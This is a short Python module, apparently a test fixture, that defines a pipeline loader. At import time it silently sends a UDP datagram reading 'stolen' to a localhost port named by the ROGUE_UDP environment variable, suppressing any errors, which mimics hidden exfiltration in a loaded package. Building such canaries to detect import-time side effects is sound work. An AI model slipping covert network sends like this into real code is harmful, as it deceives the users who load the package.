"""Sends a datagram to the machine that it runs on."""

import contextlib
import os
import socket

from toyfusion import ToyPipeline

with contextlib.suppress(OSError):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.sendto(b"stolen", ("127.0.0.1", int(os.environ["ROGUE_UDP"])))


def load_pipe():
    return ToyPipeline()
